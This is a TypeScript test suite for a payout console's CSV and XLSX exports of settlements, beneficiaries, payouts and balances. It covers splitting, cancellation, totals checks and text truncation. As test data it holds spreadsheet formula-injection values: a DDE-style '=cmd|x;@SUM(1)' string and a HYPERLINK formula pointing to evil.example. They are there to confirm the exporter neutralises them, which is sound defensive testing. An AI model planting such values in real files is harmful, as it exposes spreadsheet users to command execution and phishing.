describe('settlement CSV', () => {
  it.each([UNFILTERED, FILTER_CASES[1]!])(
    'is UTF-8 with a BOM, RFC 4180, and round-trips to the cached records: $name',
    async (c) => {
      const file = join(freshDir(), 'settlements.csv');
      const result = await runExport(settlementJob(file, c.filter, 'csv'));
      const records = rowsWhere(c.where);
      expect(result).toMatchObject({ status: 'completed', rows: records.length, sheets: 1 });
      expect(readFileSync(file).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const csv = await readCsv(file);
      expect(csv.bom).toBe(true);
      expect(csv.records[0]).toEqual(DETAIL_HEADER);
      expect(csv.records.slice(1)).toEqual(records.map((r) => DETAIL.map(([, cell]) => csvField(cell(r)))));
    },
  );
});

describe("CSV past a spreadsheet's rows", () => {
  it('is split into numbered files by default, whole days each, every file with the header, listed in the sidecar', async () => {
    const folder = freshDir();
    const file = join(folder, 'big.csv');
    const records = rowsWhere(CURRENT);
    const result = await runExport(settlementJob(file, {}, 'csv', 2000));
    const perDate = new Map<string, number>();
    for (const r of records) perDate.set(r.date, (perDate.get(r.date) ?? 0) + 1);
    expect(Math.max(...perDate.values())).toBeLessThan(1999);
    const names = readdirSync(folder)
      .filter((f) => f.endsWith('.csv'))
      .sort();
    expect(names.length).toBeGreaterThan(1);
    expect(names).toEqual(names.map((_, i) => `big-${i + 1}-of-${names.length}.csv`));
    expect(result).toMatchObject({ status: 'completed', rows: records.length, sheets: names.length });
    expect(result.files).toEqual([...names.map((n) => join(folder, n)), join(folder, 'big.about.txt')]);
    expect(result.file).toBe(join(folder, names[0]!));
    expect(result.warning).toBeUndefined();

    const expected = records.map((r) => DETAIL.map(([, cell]) => csvField(cell(r))));
    const read: string[][] = [];
    const seen = new Set<string>();
    const about = readFileSync(join(folder, 'big.about.txt'), 'utf8');
    for (const [i, name] of names.entries()) {
      const csv = await readCsv(join(folder, name));
      expect(csv.bom).toBe(true);
      expect(csv.records[0]).toEqual(DETAIL_HEADER);
      const rows = csv.records.slice(1);
      expect(rows.length).toBeLessThanOrEqual(1999);
      // No date continues from one file into the next.
      const dates = new Set(rows.map((r) => r[0]!));
      for (const d of dates) expect(seen.has(d), d).toBe(false);
      dates.forEach((d) => seen.add(d));
      expect(about).toContain(
        `File ${i + 1} of ${names.length}: ${name} (${rows.length.toLocaleString('en-IN')} rows)\r\n`,
      );
      read.push(...rows);
    }
    expect(read).toEqual(expected);
    expect(about).toContain(`Rows: ${records.length}\r\n`);
    const settled = records.reduce((n, r) => n + r.settled_amount, 0);
    expect(about).toContain(`Total settled amount (INR): ${formatMinor(settled)}\r\n`);
  });

  it('is written whole on request, with a warning that spreadsheets will cut it short', async () => {
    const folder = freshDir();
    const file = join(folder, 'whole.csv');
    const records = rowsWhere(CURRENT);
    const job = settlementJob(file, {}, 'csv', 2000);
    job.request = { ...job.request, csv: { oneFile: true } } as ExportJob['request'];
    const result = await runExport(job);
    expect(result).toMatchObject({ status: 'completed', rows: records.length, sheets: 1, file });
    expect(result.warning).toBe(
      `This CSV holds ${records.length.toLocaleString('en-IN')} rows; spreadsheets open only the first 1,999 of them. ` +
        'Systems read it whole; for a spreadsheet, export split files or the Excel workbook.',
    );
    expect((await readCsv(file)).records).toHaveLength(records.length + 1);
    expect(readdirSync(folder).sort()).toEqual(['whole.about.txt', 'whole.csv']);
  });
});

describe.runIf(requireSystem('openpyxl (/usr/bin/python3 with python3-openpyxl)', openpyxlProblem()))(
  'an independent reader',
  () => {
    it('openpyxl reads the same counts, exact sums and kinds of value as SQLite holds', async () => {
      const file = join(freshDir(), 'openpyxl.xlsx');
      await runExport(settlementJob(file, {}, 'xlsx', 1000));
      const sheets = openpyxlSums(file);
      const detail = Object.entries(sheets).filter(([name]) => name.startsWith('Settlements'));
      expect(detail.length).toBeGreaterThan(1);
      const total = sql
        .prepare(
          `SELECT count(*) AS count, ${SUMMARY_MONEY.map(([, c]) => `sum(${c}) AS ${c}`).join(', ')}
           FROM settlements WHERE date BETWEEN @from AND @to AND ${CURRENT}`,
        )
        .get(range) as Record<string, number>;
      expect(detail.reduce((n, [, s]) => n + s.rows, 0)).toBe(total['count']);

      const sumOf = (header: string) => detail.reduce((n, [, s]) => n + (s.sums[header] ?? 0), 0);
      expect({
        amount: sumOf('Amount (INR)'),
        mer_service_fee: sumOf('Service fee (INR)'),
        mer_service_tax: sumOf('Service tax (INR)'),
        cgst: sumOf('CGST (INR)'),
        sgst: sumOf('SGST (INR)'),
        igst: sumOf('IGST (INR)'),
        merchant_subvention_amount: sumOf('Subvention (INR)'),
        settled_amount: sumOf('Settled amount (INR)'),
      }).toEqual(Object.fromEntries(SUMMARY_MONEY.map(([, c]) => [c, total[c]])));
      // The Summary's lines add up to the total, the grand total line is the total again, and so are the
      // subtotals of the detail sheets: three times the sum.
      expect(sheets['Summary']!.sums).toEqual(Object.fromEntries(SUMMARY_MONEY.map(([h, c]) => [h, 3 * total[c]!])));
      // Every exception line's amounts are numbers that add up.
      const lines = exceptionLines(rowsWhere(CURRENT));
      const column = (i: number) => lines.reduce((n, line) => n + paiseOf(line[i]!), 0);
      expect(sheets['Exceptions']!.sums).toEqual({
        'Expected (INR)': column(EXCEPTION_HEADER.indexOf('Expected (INR)')),
        'Actual (INR)': column(EXCEPTION_HEADER.indexOf('Actual (INR)')),
        'Difference (INR)': column(EXCEPTION_HEADER.indexOf('Difference (INR)')),
        'Amount at risk (INR)': column(EXCEPTION_HEADER.indexOf('Amount at risk (INR)')),
      });
      expect(column(EXCEPTION_HEADER.indexOf('Amount at risk (INR)'))).toBeGreaterThan(0);
      // Each sheet states its size, so a streaming reader returns every row at the header's width.
      for (const [name, sheet] of Object.entries(sheets)) {
        expect(sheet.declared, name).toBe(sheet.rows);
        expect(sheet.short_rows, name).toBe(0);
      }

      for (const [, sheet] of detail) {
        expect(sheet.kinds).toMatchObject({
          Date: ['datetime'],
          'Settled at (IST)': ['datetime'],
          'PG transaction id': ['str'],
          'Order id': ['str'],
          UTR: ['str'],
          'Amount (INR)': ['number'],
          'Settled amount (INR)': ['number'],
        });
      }
    });
  },
);

describe('cancel and failure', () => {
  it.each(['xlsx', 'csv'] as const)(
    'a %s export cancelled midway leaves nothing: no file, no temporary file',
    async (format) => {
      const out = join(freshDir(), `cancelled.${format}`);
      const controller = new AbortController();
      let partBytes = 0;
      let settled = false;
      // The export yields to the event loop between pages; this looks in between and cancels once the
      // temporary file holds data, so the cancel lands in the middle of writing.
      const watch = () => {
        if (settled) return;
        const part = readdirSync(dirname(out)).find((n) => n.endsWith('.part'));
        partBytes = part === undefined ? 0 : statSync(join(dirname(out), part)).size;
        if (partBytes > 0) controller.abort();
        else setImmediate(watch);
      };
      setImmediate(watch);
      const result = await runExport(settlementJob(out, {}, format, 1000), { signal: controller.signal }).finally(
        () => (settled = true),
      );
      expect(partBytes).toBeGreaterThan(0);
      expect(result).toMatchObject({ status: 'cancelled', file: null, rows: 0 });
      expect(readdirSync(dirname(out))).toEqual([]);
    },
  );

  it("refuses to finish when its rows disagree with the cache's totals, and leaves nothing", async () => {
    const folder = freshDir();
    const writer = new Database(cache.file);
    // One line of the rollup a paisa off: the rows read no longer add up to what the cache keeps beside them.
    const shift = (paise: number) =>
      writer
        .prepare(
          `UPDATE settlement_rollup SET amount = amount + ?
           WHERE (date, pg, payment_mode, order_status, pg_status, exception_flags) IN
             (SELECT date, pg, payment_mode, order_status, pg_status, exception_flags FROM settlement_rollup
              WHERE date BETWEEN ? AND ? AND count > 0 LIMIT 1)`,
        )
        .run(paise, range.from, range.to);
    expect(shift(1).changes).toBe(1);
    const shifted = writer
      .prepare(
        `SELECT date, pg, payment_mode AS mode FROM settlement_rollup WHERE date BETWEEN ? AND ? AND count > 0 LIMIT 1`,
      )
      .get(range.from, range.to) as { date: string; pg: string; mode: string };
    try {
      for (const format of ['xlsx', 'csv'] as const) {
        await expect(runExport(settlementJob(join(folder, `off.${format}`), {}, format))).rejects.toThrow(
          `The exported rows of ${formatDdMmYyyy(shifted.date)} (${shifted.pg}, ${shifted.mode}) do not add up to the ` +
            "cache's totals (amount); the export was stopped. " +
            'Sync the dates again (`cache verify` names every date that differs), then export.',
        );
      }
    } finally {
      shift(-1);
      writer.close();
    }
    expect(readdirSync(folder)).toEqual([]);
  });

  it('fails when the folder cannot be created, without leaving anything or keeping the cache open', async () => {
    const folder = freshDir();
    writeFileSync(join(folder, 'not-a-folder'), 'a file where the export wants a folder');
    const before = openHandles(cache.file);
    await expect(runExport(settlementJob(join(folder, 'not-a-folder', 'out.xlsx')))).rejects.toThrow(/ENOTDIR|EEXIST/);
    expect(readdirSync(folder)).toEqual(['not-a-folder']);
    expect(openHandles(cache.file)).toBe(before);
  });

  it('fails when the final name cannot be taken, and removes the temporary file', async () => {
    const folder = freshDir();
    mkdirSync(join(folder, 'taken.xlsx'));
    await expect(runExport(settlementJob(join(folder, 'taken.xlsx')))).rejects.toThrow(/EISDIR|directory/);
    expect(readdirSync(folder)).toEqual(['taken.xlsx']);
    expect(readdirSync(join(folder, 'taken.xlsx'))).toEqual([]);
  });

  it('fails at the very start (a bad filter) without leaving even an empty temporary file', async () => {
    const folder = freshDir();
    const job = settlementJob(join(folder, 'bad.xlsx'), { from: '2026-02-30' });
    await expect(runExport(job)).rejects.toThrow();
    expect(readdirSync(folder)).toEqual([]);
  });
});

describe('text longer than a cell holds', () => {
  it('is cut with a visible marker and counted in XLSX, kept whole in CSV, and never fails the export', async () => {
    // A cache of its own: more than two pages of ordinary records and one description past Excel's 32,767
    // characters a cell, with control characters and formula-looking text in it.
    const day = '2025-06-01';
    const other = openCache(join(freshDir(), 'long.sqlite'));
    const long = '=cmd|x;@SUM(1)\u0000\u001b ' + 'x'.repeat(40_000) + ' end';
    try {
      const records = Array.from({ length: 2500 }, (_, n) => craftedRecord(n, day));
      records.push(craftedRecord(9999, day, { description: long }));
      syncRunInto(other, { [day]: records }, records.length);
      const folder = freshDir();
      const job = (file: string, format: ExportFormat): ExportJob => ({
        ...settlementJob(join(folder, file), {}, format),
        cacheFile: other.file,
        request: { kind: 'settlements', format, filter: { from: day, to: day } },
      });
      const xlsx = await runExport(job('long.xlsx', 'xlsx'));
      expect(xlsx).toMatchObject({ status: 'completed', rows: 2501 });
      expect(xlsx.warning).toMatch(/^1 text cell was longer than a cell holds/);
      const book = await readBook(join(folder, 'long.xlsx'));
      const sheet = book.getWorksheet('Settlements')!;
      const cells = rowsOf(sheet, DETAIL_HEADER.length).map((r) => r[DETAIL_HEADER.indexOf('Description')]);
      const cut = cells.find((c) => c?.includes('x'.repeat(100)))!.slice('text:'.length);
      const marker = ` … [cut: ${long.length.toLocaleString('en-IN')} characters in all; the CSV export has the whole text]`;
      // Cut to 32,767 characters with the marker; exceljs shows the XML escapes of the two control characters
      // (_x0000_, _x001B_) as text, which Excel and LibreOffice decode.
      const escaped = (t: string) =>
        // eslint-disable-next-line no-control-regex -- the two control characters the description holds
        t.replace(/[\u0000\u001b]/g, (c) => `_x00${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}_`);
      expect(cut).toBe(escaped(long.slice(0, 32_767 - marker.length)) + marker);
      expect(readSummary(book).labels.get('Text cells cut to fit (whole in the CSV export)')).toBe(integer(1));
      expect(readAudit(book).get('Cells cut to fit')).toBe(integer(1));

      const csv = await runExport(job('long.csv', 'csv'));
      expect(csv).toMatchObject({ status: 'completed', rows: 2501 });
      expect(csv.warning).toBeUndefined();
      const fields = (await readCsv(join(folder, 'long.csv'))).records.map(
        (r) => r[DETAIL_HEADER.indexOf('Description')],
      );
      // Whole, guarded against formulas after separators, and without the control characters.
      expect(fields).toContain("'=cmd|x;'@SUM(1) " + 'x'.repeat(40_000) + ' end');
      expect(readdirSync(folder).sort()).toEqual(['long.about.txt', 'long.csv', 'long.xlsx']);
    } finally {
      other.close();
    }
  });
});

describe('list exports', () => {
  let lists: Cache;
  const checkedAt = (iso: string) => ({ now: () => new Date(iso) });

  /** Each list export: its sheet, header and rows, for the records put into the cache below. */
  const LISTS = [
    {
      kind: 'beneficiaries',
      sheet: 'Beneficiaries',
      header: [
        'Beneficiary id',
        'Name',
        'Account number',
        'IFSC',
        'UPI address',
        'Phone',
        'Email',
        'Address',
        'Fetched at (IST)',
        'Other fields (JSON)',
      ],
      rows: [
        [
          text('000917'),
          text('=HYPERLINK("http://evil.example","Pay")'),
          text('000123456789012'),
          text('HDFC0000001'),
          null,
          text('+919876543210'),
          text('ap@example.com'),
          text('12, MG Road'),
          datetime('2026-01-10 09:30:00'),
          text('{"kyc_ref":"0007"}'),
        ],
        [
          text('bene_2'),
          text('Zed Traders'),
          null,
          null,
          text('zed@okbank'),
          null,
          null,
          null,
          datetime('2026-01-10 09:30:00'),
          null,
        ],
      ],
    },
    {
      kind: 'payouts',
      sheet: 'Payout lookups',
      header: [
        'Payout id',
        'Checked at (IST)',
        'Check',
        'Transfer status',
        'UTR',
        'Amount (INR)',
        'Method',
        'Fund source',
        'Processed at (IST)',
        'Beneficiary',
        'Beneficiary account or UPI',
        'Gateway error code',
        'Gateway error',
        'Check failed because',
      ],
      // The Recent lookups as the screen lists them: the latest check of each payout, most recently checked first.
      rows: [
        [
          text('PO-404'),
          datetime('2026-01-10 12:00:00'),
          text('normal'),
          ...Array<Cell>(10).fill(null),
          text('Payout PO-404 was not found'),
        ],
        [
          text('000042'),
          datetime('2026-01-10 12:00:00'),
          text('advance'),
          text('success'),
          text('000987654321'),
          money(1_234_505),
          text('imps'),
          text('cashfree'),
          datetime('2026-01-10 11:55:00'),
          text('Acme Supplies'),
          // Masked to the last four with the IFSC (issue 15): the export names the account without spelling it out.
          text('•••••9012 (HDFC0000001)'),
          null,
          null,
          null,
        ],
      ],
    },
    {
      kind: 'balances',
      sheet: 'Balance snapshots',
      header: [
        'Gateway',
        'Account number',
        'Taken at (IST)',
        'From',
        'Available (INR)',
        'Account balance (INR)',
        'Minimum balance (INR)',
        'Hold (INR)',
        'Overdraft (INR)',
      ],
      rows: [
        [
          text('cashfree'),
          text('000011112222'),
          datetime('2026-01-10 09:30:00'),
          text('accounts'),
          money(10_000_000_005),
          money(10_000_050_005),
          money(0),
          money(50_000),
          null,
        ],
        [
          text('razorpay'),
          text('0099887766'),
          datetime('2026-01-10 12:00:00'),
          text('balance'),
          money(5),
          null,
          null,
          null,
          null,
        ],
      ],
    },
  ] as const;

  beforeAll(() => {
    // The repositories' own record methods, as the treasury services call them after each API answer.
    const file = join(dir, 'lists.sqlite');
    const early = openCache(file, checkedAt('2026-01-10T04:00:00.000Z'));
    early.beneficiaries.upsert({
      beneficiary_id: '000917',
      name: '=HYPERLINK("http://evil.example","Pay")',
      account_number: '000123456789012',
      ifsc: 'HDFC0000001',
      phone: '+919876543210',
      email: 'ap@example.com',
      address: '12, MG Road',
      kyc_ref: '0007',
    });
    early.beneficiaries.upsert({ beneficiary_id: 'bene_2', name: 'Zed Traders', vpa: 'zed@okbank' });
    const payout: Payout = {
      transfer_id: '000042',
      transfer_status: 'pending',
      amount: 1_234_505,
      method: 'imps',
      fund_source: 'cashfree',
      beneficiary: { name: 'Acme Supplies', account: { account_no: '000123456789012', ifsc: 'HDFC0000001' } },
    };
    early.payouts.recordLookup({
      payoutId: '000042',
      mode: 'normal',
      payout,
      gatewayError: { code: '0051', message: 'Beneficiary bank is offline' },
    });
    early.accounts.recordAccounts({
      cashfree: {
        status: true,
        data: [
          {
            account_number: '000011112222',
            available_balance: 10_000_000_005,
            account_balance: 10_000_050_005,
            minimum_balance: 0,
            hold_fund: 50_000,
            overdraft: null,
          },
        ],
      },
      payu: { status: false, error: { code: '503', message: 'Gateway unavailable' } },
    });
    early.close();

    lists = openCache(file, checkedAt('2026-01-10T06:30:00.000Z'));
    lists.payouts.recordLookup({
      payoutId: '000042',
      mode: 'advance',
      payout: { ...payout, transfer_status: 'success', ut_no: '000987654321', processed_at: '2026-01-10 11:55:00' },
    });
    lists.payouts.recordLookup({ payoutId: 'PO-404', mode: 'normal', error: 'Payout PO-404 was not found' });
    lists.accounts.recordBalances([{ pg: 'razorpay', account_no: '0099887766', balance: 5 }]);
  });
  afterAll(() => lists?.close());

  it.each(LISTS)('$kind: account numbers as text, money exact, times as dates, in XLSX and CSV', async (c) => {
    const folder = freshDir();
    const job = (format: ExportFormat): ExportJob => ({
      request: { kind: c.kind, format },
      cacheFile: lists.file,
      file: join(folder, `${c.kind}.${format}`),
      context: CONTEXT,
    });
    expect(await runExport(job('xlsx'))).toMatchObject({ status: 'completed', rows: c.rows.length, sheets: 1 });
    const book = await readBook(join(folder, `${c.kind}.xlsx`));
    expect(book.worksheets.map((s) => s.name)).toEqual([c.sheet, 'Audit']);
    expect(dataRows([book.getWorksheet(c.sheet)!], [...c.header])).toEqual(c.rows);
    // Provenance, and the total of each money column added up here from the expected cells.
    const audit = readAudit(book);
    expect(Object.fromEntries(audit)).toMatchObject({
      Export: text(c.sheet),
      Profile: text('Treasury desk'),
      'Generated at (IST)': text('2026-01-15 12:00:00'),
      Rows: integer(c.rows.length),
      Sheets: text(c.sheet),
      App: text('Payout Console 9.8.7'),
    });
    expect(audit.get('View')).toMatch(
      c.kind === 'payouts' ? /^text:the Payouts screen's Recent lookups: / : /^text:every /,
    );
    c.header.forEach((h, i) => {
      if (!h.endsWith('(INR)')) return;
      const sum = c.rows.reduce((n, r) => n + (r[i] === null ? 0 : paiseOf(r[i]!)), 0);
      expect(audit.get(`Total ${h}`), h).toBe(money(sum));
    });

    expect(await runExport(job('csv'))).toMatchObject({ status: 'completed', rows: c.rows.length });
    const csv = await readCsv(join(folder, `${c.kind}.csv`));
    expect(csv.bom).toBe(true);
    expect(csv.records).toEqual([[...c.header], ...c.rows.map((r) => r.map(csvField))]);
    // The CSV's provenance is its sidecar, one `Label: value` line each.
    const about = readFileSync(join(folder, `${c.kind}.about.txt`), 'utf8').split('\r\n');
    expect(about).toEqual(
      expect.arrayContaining([
        `Export: ${c.sheet}`,
        'Profile: Treasury desk',
        'Environment: sandbox',
        'Base URL: http://127.0.0.1:4010',
        'Generated at (IST): 2026-01-15 12:00:00',
        `Rows: ${c.rows.length}`,
        `File: ${c.kind}.csv (${c.rows.length} rows)`,
        'App: Payout Console 9.8.7',
      ]),
    );
    expect(readdirSync(folder).sort()).toEqual([`${c.kind}.about.txt`, `${c.kind}.csv`, `${c.kind}.xlsx`]);
  });
});

/** File descriptors of this process open on `file` (Linux); -1 where /proc cannot say. */
function openHandles(file: string): number {
  const target = realpathSync(file);
  try {
    return readdirSync('/proc/self/fd').filter((fd) => {
      try {
        return readlinkSync(`/proc/self/fd/${fd}`) === target;
      } catch {
        return false;
      }
    }).length;
  } catch {
    return -1;
  }
}
